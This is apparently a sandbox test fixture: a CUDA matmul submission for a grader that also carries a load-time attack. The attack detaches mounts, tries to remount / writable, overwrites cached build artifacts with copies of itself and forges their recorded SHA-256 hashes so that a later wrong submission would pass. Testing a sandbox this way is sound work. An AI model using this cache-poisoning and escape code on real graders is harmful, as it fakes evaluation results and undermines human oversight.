// Graded by tests/test_box_probes.py, between two gradings of a wrong file (not a corpus file: its
// @CACHE@ names the test's build cache). A correct submission that tries to make a later wrong
// submission ACCEPTED: it finds every cached build it can reach and replaces each artifact (the
// emulator's `worker` executables and runtime.o, the GPU's solution.so) with a copy of its own
// (/proc/self/exe, or the library it was loaded from), then rewrites each build.json's "sha256" to
// match, so the grader's check at load finds nothing changed and runs this correct code in place of
// the wrong file. To get there it first tries to take the box apart (umount2 MNT_DETACH of /tmp and
// /root, which hide the cache; mount MS_REMOUNT | MS_BIND to make / writable). It looks in @CACHE@,
// /root/.cache/cuda-grader, /proc/PID/root@CACHE@ for every visible process, and every folder under
// /tmp holding a builds/ folder. It replaces artifacts only in a cache marked for it (a file named
// cache-poisoning-target, planted by the test), so that where it gets through it cannot spoil a
// cache it was not meant for; of any other cache it only reports whether it could write there.
// It always computes C correctly (running in place of the wrong file, it must look correct). The
// box keeps every cache out of reach, and the grader checks each artifact with a key the box cannot
// read: the wrong file stays WRONG_ANSWER.
#include <cuda_runtime.h>
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

__global__ void matmul_naive(const float* A, const float* B, float* C, int M, int N, int K) {
    int col = blockIdx.x * blockDim.x + threadIdx.x;
    int row = blockIdx.y * blockDim.y + threadIdx.y;
    if (row < M && col < K) {
        float sum = 0.0f;
        for (int i = 0; i < N; ++i) sum += A[(size_t)row * N + i] * B[(size_t)i * K + col];
        C[(size_t)row * K + col] = sum;
    }
}

static void launch(const float* A, const float* B, float* C, int M, int N, int K) {
    dim3 block(16, 16);
    dim3 grid((K + 15) / 16, (M + 15) / 16);
    matmul_naive<<<grid, block>>>(A, B, C, M, N, K);
}

// ---- SHA-256 (FIPS 180-4), for the hash the grader records in build.json

static std::string sha256_hex(const std::string& data) {
    static const uint32_t k[64] = {
        0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5, 0xd807aa98,
        0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786,
        0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da, 0x983e5152, 0xa831c66d, 0xb00327c8,
        0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13,
        0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819,
        0xd6990624, 0xf40e3585, 0x106aa070, 0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a,
        0x5b9cca4f, 0x682e6ff3, 0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7,
        0xc67178f2};
    uint32_t h[8] = {0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19};
    std::string message = data + '\x80';
    while (message.size() % 64 != 56) message += '\0';
    uint64_t bits = uint64_t(data.size()) * 8;
    for (int i = 7; i >= 0; --i) message += static_cast<char>(bits >> (8 * i));
    auto rotr = [](uint32_t x, int n) { return (x >> n) | (x << (32 - n)); };
    for (size_t block = 0; block < message.size(); block += 64) {
        uint32_t w[64];
        for (int i = 0; i < 16; ++i) {
            const unsigned char* p = reinterpret_cast<const unsigned char*>(&message[block + 4 * i]);
            w[i] = uint32_t(p[0]) << 24 | uint32_t(p[1]) << 16 | uint32_t(p[2]) << 8 | p[3];
        }
        for (int i = 16; i < 64; ++i) {
            uint32_t s0 = rotr(w[i - 15], 7) ^ rotr(w[i - 15], 18) ^ (w[i - 15] >> 3);
            uint32_t s1 = rotr(w[i - 2], 17) ^ rotr(w[i - 2], 19) ^ (w[i - 2] >> 10);
            w[i] = w[i - 16] + s0 + w[i - 7] + s1;
        }
        uint32_t a = h[0], b = h[1], c = h[2], d = h[3], e = h[4], f = h[5], g = h[6], hh = h[7];
        for (int i = 0; i < 64; ++i) {
            uint32_t t1 = hh + (rotr(e, 6) ^ rotr(e, 11) ^ rotr(e, 25)) + ((e & f) ^ (~e & g)) + k[i] + w[i];
            uint32_t t2 = (rotr(a, 2) ^ rotr(a, 13) ^ rotr(a, 22)) + ((a & b) ^ (a & c) ^ (b & c));
            hh = g; g = f; f = e; e = d + t1; d = c; c = b; b = a; a = t1 + t2;
        }
        h[0] += a; h[1] += b; h[2] += c; h[3] += d; h[4] += e; h[5] += f; h[6] += g; h[7] += hh;
    }
    char hex[65];
    for (int i = 0; i < 8; ++i) std::snprintf(hex + 8 * i, 9, "%08x", h[i]);
    return std::string(hex, 64);
}

// ---- files

static bool read_all(const std::string& path, std::string& out) {
    FILE* f = std::fopen(path.c_str(), "rb");
    if (!f) return false;
    out.clear();
    char buf[1 << 16];
    for (size_t n; (n = std::fread(buf, 1, sizeof buf, f)) > 0;) out.append(buf, n);
    std::fclose(f);
    return true;
}

// Replaces `path` by a new file holding `bytes` (a rename: works on a running executable too).
static bool replace(const std::string& path, const std::string& bytes, mode_t mode) {
    std::string temporary = path + ".probe-tmp";
    FILE* f = std::fopen(temporary.c_str(), "wb");
    if (!f) return false;
    bool written = std::fwrite(bytes.data(), 1, bytes.size(), f) == bytes.size();
    written &= std::fclose(f) == 0;
    chmod(temporary.c_str(), mode);
    if (!written || std::rename(temporary.c_str(), path.c_str()) != 0) {
        unlink(temporary.c_str());
        return false;
    }
    return true;
}

static std::vector<std::string> entries(const std::string& folder) {
    std::vector<std::string> names;
    if (DIR* dir = opendir(folder.c_str())) {
        while (dirent* e = readdir(dir))
            if (std::strcmp(e->d_name, ".") != 0 && std::strcmp(e->d_name, "..") != 0) names.push_back(e->d_name);
        closedir(dir);
    }
    return names;
}

static bool is_dir(const std::string& path) {
    struct stat info {};
    return stat(path.c_str(), &info) == 0 && S_ISDIR(info.st_mode);
}

// ---- the attack

static std::string own_library() {
    Dl_info info{};
    std::string path = dladdr(reinterpret_cast<void*>(&own_library), &info) && info.dli_fname ? info.dli_fname : "";
    return path.size() > 3 && path.compare(path.size() - 3, 3, ".so") == 0 ? path : "";
}

// Every artifact of every build in `cache` becomes a copy of this submission's own.
static void poison(const std::string& cache) {
    std::string executable, library;
    read_all("/proc/self/exe", executable);
    std::string library_path = own_library();
    if (library_path.empty() || !read_all(library_path, library)) library = executable;
    int replaced = 0, failed = 0;
    for (const std::string& key : entries(cache + "/builds")) {
        std::string entry = cache + "/builds/" + key, meta;
        if (!read_all(entry + "/build.json", meta)) continue;
        for (const std::string& name : entries(entry)) {
            if (name == "build.json" || name.find(".probe-tmp") != std::string::npos) continue;
            bool shared = name.size() > 3 && name.compare(name.size() - 3, 3, ".so") == 0;
            const std::string& bytes = shared ? library : executable;
            size_t at = meta.find("\"sha256\": \"");
            if (at == std::string::npos || !replace(entry + "/" + name, bytes, 0555)) { ++failed; continue; }
            meta.replace(at + 11, 64, sha256_hex(bytes));
            if (replace(entry + "/build.json", meta, 0644)) ++replaced; else ++failed;
        }
    }
    std::printf("  %s: replaced %d artifacts (and their recorded hashes), %d refused\n", cache.c_str(), replaced,
                failed);
}

static void look_at(const std::string& cache) {
    if (!is_dir(cache + "/builds")) return;
    if (access((cache + "/cache-poisoning-target").c_str(), F_OK) == 0) {
        poison(cache);
    } else {
        bool writable = access((cache + "/builds").c_str(), W_OK) == 0;
        std::printf("  %s: another cache, %s\n", cache.c_str(), writable ? "WRITABLE (left alone)" : "read-only");
    }
}

static void walk_for_caches(const std::string& folder, int depth) {
    if (is_dir(folder + "/builds")) look_at(folder);
    if (depth == 0) return;
    for (const std::string& name : entries(folder))
        if (name != "builds" && is_dir(folder + "/" + name)) walk_for_caches(folder + "/" + name, depth - 1);
}

static void attack(const char* when) {
    std::printf("%s:\n", when);
    for (const char* hidden : {"/tmp", "/root"})
        std::printf("  umount2 MNT_DETACH %s: %s\n", hidden,
                    umount2(hidden, MNT_DETACH) == 0 ? "SUCCEEDED" : std::strerror(errno));
    int remounted = mount(nullptr, "/", nullptr, MS_REMOUNT | MS_BIND, nullptr);
    std::printf("  remount / read-write: %s\n", remounted == 0 ? "SUCCEEDED" : std::strerror(errno));
    look_at("@CACHE@");
    look_at("/root/.cache/cuda-grader");
    for (const std::string& pid : entries("/proc"))
        if (pid[0] >= '0' && pid[0] <= '9') look_at("/proc/" + pid + "/root@CACHE@");
    walk_for_caches("/tmp", 6);
    std::fflush(stdout);
}

__attribute__((constructor)) static void before_main() { attack("constructor"); }

extern "C" void solve(const float* A, const float* B, float* C, int M, int N, int K) {
    static bool once = (attack("solve"), true);
    (void)once;
    launch(A, B, C, M, N, K);
}
